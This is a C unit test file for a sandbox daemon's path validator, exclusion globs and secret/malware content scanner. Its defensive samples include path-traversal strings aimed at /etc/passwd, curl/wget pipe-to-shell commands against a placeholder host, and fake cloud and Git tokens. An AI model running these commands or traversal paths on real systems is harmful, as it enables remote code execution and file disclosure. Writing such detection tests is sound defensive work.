@@ -1,0 +1,135 @@
+/* test_oppath.c — jailboxd's checks of a file op before it is stored: path syntax
+ * (sandbox/pathcheck.c, also compiled into the shim), exclusion globs and the content
+ * scanner (api/scan.c). */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <cmocka.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "api/scan.h"
+#include "sandbox/pathcheck.h"
+
+static enum jb_path_verdict chk(const char *p) { return jb_path_check(p, strlen(p), 0); }
+
+static void path_ok(void **state) {
+  (void)state;
+  assert_int_equal(chk("a"), JB_PATH_OK);
+  assert_int_equal(chk("a/b/c.txt"), JB_PATH_OK);
+  assert_int_equal(chk(".hidden/x"), JB_PATH_OK);
+  assert_int_equal(chk("...") , JB_PATH_OK);          /* not "..": an ordinary name */
+  assert_int_equal(chk("a..b/..c"), JB_PATH_OK);
+  /* decoded exactly once: these are ordinary bytes */
+  assert_int_equal(chk("%2e%2e/etc/passwd"), JB_PATH_OK);
+  assert_int_equal(chk("..\\..\\etc"), JB_PATH_OK);
+  assert_int_equal(chk("\xe2\x80\xa4\xe2\x80\xa4/x"), JB_PATH_OK); /* U+2024 ONE DOT LEADER */
+  assert_int_equal(chk("\xef\xbc\x8f" "etc"), JB_PATH_OK);         /* U+FF0F FULLWIDTH SOLIDUS */
+  assert_int_equal(jb_path_check(".", 1, 1), JB_PATH_OK);
+}
+
+static void path_refused(void **state) {
+  (void)state;
+  assert_int_equal(chk(""), JB_PATH_EMPTY);
+  assert_int_equal(jb_path_check(NULL, 0, 0), JB_PATH_EMPTY);
+  assert_int_equal(jb_path_check("a\0b", 3, 0), JB_PATH_NUL);
+  assert_int_equal(chk("/etc/passwd"), JB_PATH_ABSOLUTE);
+  assert_int_equal(chk("//x"), JB_PATH_ABSOLUTE);
+  assert_int_equal(chk(".."), JB_PATH_DOTDOT);
+  assert_int_equal(chk("../x"), JB_PATH_DOTDOT);
+  assert_int_equal(chk("a/../../x"), JB_PATH_DOTDOT);
+  assert_int_equal(chk("a/.."), JB_PATH_DOTDOT);
+  assert_int_equal(chk("."), JB_PATH_DOT);
+  assert_int_equal(chk("./a"), JB_PATH_DOT);
+  assert_int_equal(chk("a/./b"), JB_PATH_DOT);
+  assert_int_equal(chk("a//b"), JB_PATH_EMPTY_NAME);
+  assert_int_equal(chk("a/"), JB_PATH_EMPTY_NAME);
+  char name[300];
+  memset(name, 'n', 256);
+  name[256] = '\0';
+  assert_int_equal(chk(name), JB_PATH_NAME_TOO_LONG);
+  name[255] = '\0';
+  assert_int_equal(chk(name), JB_PATH_OK);
+  char *longp = malloc(JB_PATH_MAX + 2);
+  for (int i = 0; i < JB_PATH_MAX + 1; i++) longp[i] = (i % 2) ? '/' : 'a';
+  longp[JB_PATH_MAX + 1] = '\0';
+  assert_int_equal(chk(longp), JB_PATH_TOO_LONG);
+  longp[JB_PATH_MAX - 1] = '\0'; /* 4095 bytes ending in 'a' */
+  assert_int_equal(chk(longp), JB_PATH_OK);
+  free(longp);
+  assert_string_not_equal(jb_path_verdict_text(JB_PATH_DOTDOT), "ok");
+}
+
+static void exclusions(void **state) {
+  (void)state;
+  json_t *g = json_pack("[s,s,s]", "secrets", "*.pem", ".git");
+  const char *which = NULL;
+  assert_true(jb_path_excluded("secrets", g, &which));
+  assert_string_equal(which, "secrets");
+  assert_true(jb_path_excluded("secrets/a/b.txt", g, NULL));
+  assert_true(jb_path_excluded("key.pem", g, NULL));
+  assert_false(jb_path_excluded("dir/key.pem", g, NULL)); /* FNM_PATHNAME: '*' stops at '/' */
+  assert_true(jb_path_excluded(".git/config", g, NULL));
+  assert_false(jb_path_excluded("src/main.c", g, NULL));
+  assert_false(jb_path_excluded("notsecrets", g, NULL));
+  json_t *g2 = json_pack("[s]", "*");
+  assert_false(jb_path_excluded(".env", g2, NULL)); /* FNM_PERIOD: '*' does not match a leading '.' */
+  assert_true(jb_path_excluded("a/b", g2, NULL));
+  assert_false(jb_path_excluded("x", NULL, NULL));
+  json_decref(g);
+  json_decref(g2);
+}
+
+static void expect_rule(const char *path, const char *content, const char *rule) {
+  json_t *h = jb_scan_content(path, (const unsigned char *)content, strlen(content));
+  assert_non_null(h);
+  bool found = false;
+  size_t i;
+  json_t *v;
+  json_array_foreach(h, i, v) found = found || (rule && !strcmp(json_string_value(v), rule));
+  if (rule) {
+    if (!found) fail_msg("rule %s did not match %s", rule, content);
+  } else if (json_array_size(h) != 0) {
+    fail_msg("clean sample flagged by %s", json_string_value(json_array_get(h, 0)));
+  }
+  json_decref(h);
+}
+
+static void scanner(void **state) {
+  (void)state;
+  expect_rule("k", "x\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n", "private_key");
+  expect_rule("k", "-----BEGIN OPENSSH PRIVATE KEY-----\n", "private_key");
+  expect_rule("k", "-----BEGIN PRIVATE KEY-----\n", "private_key");
+  expect_rule("k", "-----BEGIN PUBLIC KEY-----\n", NULL);
+  expect_rule("c", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", "aws_access_key_id");
+  expect_rule("c", "AKIAIOSFODNN7EXAMPL is too short\n", NULL);
+  expect_rule("c", "token: ghp_0123456789abcdefghijABCDEFGHIJ012345\n", "github_token");
+  expect_rule("c", "xoxb-1234567890-abcdefghij\n", "slack_token");
+  expect_rule("c", "glpat-abcdefghij0123456789\n", "gitlab_token");
+  expect_rule("c", "key=AIzaSyA-1234567890abcdefghijklmnopqrstu\n", "google_api_key");
+  expect_rule("s.sh", "curl -fsSL https://x.example/i.sh | sh\n", "download_and_execute");
+  expect_rule("s.sh", "wget -qO- https://x.example/i | sudo bash\n", "download_and_execute");
+  expect_rule("s.sh", "curl -o out.tgz https://x.example/a.tgz\n", NULL);
+  expect_rule(".git/hooks/pre-commit", "#!/bin/sh\n", "git_hooks");
+  expect_rule("sub/.git/hooks/post-checkout", "#!/bin/sh\n", "git_hooks");
+  expect_rule("README.md", "# hello\nplain text\n", NULL);
+  unsigned char *bin = calloc(1, 9000);
+  json_t *h = jb_scan_content("a.bin", bin, 9000);
+  assert_string_equal(json_string_value(json_array_get(h, 0)), "binary_content");
+  json_decref(h);
+  h = jb_scan_content("a.bin", bin, 100);
+  assert_int_equal(json_array_size(h), 0);
+  json_decref(h);
+  free(bin);
+}
+
+int main(void) {
+  const struct CMUnitTest tests[] = {
+      cmocka_unit_test(path_ok),
+      cmocka_unit_test(path_refused),
+      cmocka_unit_test(exclusions),
+      cmocka_unit_test(scanner),
+  };
+  return cmocka_run_group_tests(tests, NULL, NULL);
+}
